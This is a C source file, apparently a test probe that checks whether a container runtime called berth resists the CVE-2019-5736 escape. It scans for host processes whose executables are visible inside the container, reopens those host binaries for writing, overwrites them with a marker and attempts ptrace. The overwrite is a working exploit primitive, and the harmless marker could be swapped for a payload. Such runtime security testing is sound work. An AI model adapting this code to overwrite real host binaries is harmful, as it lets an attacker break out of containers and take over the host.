/* escexe_scan OUTDIR: the CVE-2019-5736 attacker, run inside a container.
 *
 * Until OUTDIR/stop exists it walks the container's PIDs as fast as it can
 * (every PID up to a few past the highest one seen, since PIDs in a pid
 * namespace come in order) and opens /proc/PID/exe with O_PATH. An exe that
 * is neither busybox nor this program is foreign: something from outside the
 * container (berth's exec or health-check helper before its execve, or
 * berth's init). For a foreign exe it reopens the O_PATH fd through
 * /proc/self/fd/N for reading (the host binary's content) and for writing; a
 * write that opens overwrites the first bytes with a marker, as an attacker
 * would. The O_PATH fds are kept, and the write is tried again on each of them
 * once OUTDIR/stop appears (the binary may no longer be running by then, as
 * in the original exploit). Then it writes OUTDIR/result:
 *   scans=N path=N read=N write=N fd=N ptrace=N
 * (fd: foreign processes whose /proc/PID/fd showed a descriptor above 2;
 * ptrace: foreign processes PTRACE_SEIZE accepted, then detached at once)
 *   foreign PID LINK (one line per foreign exe seen, at most 20)
 * and sleeps until killed. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define MAX_HELD 256

static struct stat own[2];
static int held[MAX_HELD];
static int n_held;
static long n_path, n_read, n_write, n_fd, n_ptrace;
static char report[20][300];
static int n_report;

static int attributable(const struct stat* st) {
    for (int i = 0; i < 2; ++i)
        if (st->st_dev == own[i].st_dev && st->st_ino == own[i].st_ino) return 1;
    return 0;
}

static int try_write(int fd) {
    char p[64];
    snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
    int w = open(p, O_WRONLY | O_CLOEXEC);
    if (w < 0) return 0;
    ssize_t n = write(w, "ESCAPED!", 8);
    (void)n;
    close(w);
    return 1;
}

static int has_fds(int pid) {
    char p[64];
    snprintf(p, sizeof p, "/proc/%d/fd", pid);
    DIR* d = opendir(p);
    if (!d) return 0;
    struct dirent* e;
    int found = 0;
    while ((e = readdir(d)))
        if (e->d_name[0] != '.' && atoi(e->d_name) > 2) found = 1;
    closedir(d);
    return found;
}

static int seize(int pid) {
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) return 0;
    if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0) {
        int st;
        waitpid(pid, &st, __WALL);
    }
    ptrace(PTRACE_DETACH, pid, 0, 0);
    return 1;
}

/* 1 if PID exists (its exe opened or was refused). */
static int probe(int pid) {
    char p[64];
    snprintf(p, sizeof p, "/proc/%d/exe", pid);
    int fd = open(p, O_PATH | O_CLOEXEC);
    if (fd < 0) return errno != ENOENT;
    struct stat st;
    if (fstat(fd, &st) < 0 || attributable(&st)) {
        close(fd);
        return 1;
    }
    ++n_path;
    if (n_report < 20) {
        char link[256] = "?";
        char fdp[64];
        snprintf(fdp, sizeof fdp, "/proc/self/fd/%d", fd);
        ssize_t l = readlink(fdp, link, sizeof link - 1);
        if (l > 0) link[l] = '\0';
        snprintf(report[n_report++], sizeof report[0], "foreign %d %s", pid, link);
    }
    char fdp[64];
    snprintf(fdp, sizeof fdp, "/proc/self/fd/%d", fd);
    int r = open(fdp, O_RDONLY | O_CLOEXEC);
    if (r >= 0) {
        char magic[4];
        if (read(r, magic, 4) == 4 && memcmp(magic, "\177ELF", 4) == 0) ++n_read;
        close(r);
    }
    n_write += try_write(fd);
    n_fd += has_fds(pid);
    n_ptrace += seize(pid);
    if (n_held < MAX_HELD) held[n_held++] = fd;
    else close(fd);
    return 1;
}

static void on_term(int sig) {
    (void)sig;
    _exit(0);
}

int main(int argc, char** argv) {
    if (argc != 2) return 2;
    if (stat("/bin/busybox", &own[0]) < 0 || stat("/proc/self/exe", &own[1]) < 0) return 2;
    char stop[256], result[256], tmp[256];
    snprintf(stop, sizeof stop, "%s/stop", argv[1]);
    snprintf(result, sizeof result, "%s/result", argv[1]);
    snprintf(tmp, sizeof tmp, "%s/result.tmp", argv[1]);
    signal(SIGTERM, on_term);
    int self = getpid(), top = 1;
    long scans = 0;
    for (;;) {
        if (scans % 200 == 0) {
            if (access(stop, F_OK) == 0) break;
            DIR* d = opendir("/proc");  /* the highest PID so far */
            struct dirent* e;
            while (d && (e = readdir(d)))
                if (atoi(e->d_name) > top) top = atoi(e->d_name);
            if (d) closedir(d);
        }
        for (int pid = 1; pid <= top + 4; ++pid)
            if (pid != self && probe(pid) && pid > top) top = pid;
        ++scans;
    }
    for (int i = 0; i < n_held; ++i) n_write += try_write(held[i]);
    FILE* f = fopen(tmp, "w");
    if (!f) return 3;
    fprintf(f, "scans=%ld path=%ld read=%ld write=%ld fd=%ld ptrace=%ld\n", scans, n_path, n_read, n_write, n_fd,
            n_ptrace);
    for (int i = 0; i < n_report; ++i) fprintf(f, "%s\n", report[i]);
    fclose(f);
    rename(tmp, result);
    for (;;) pause();
}
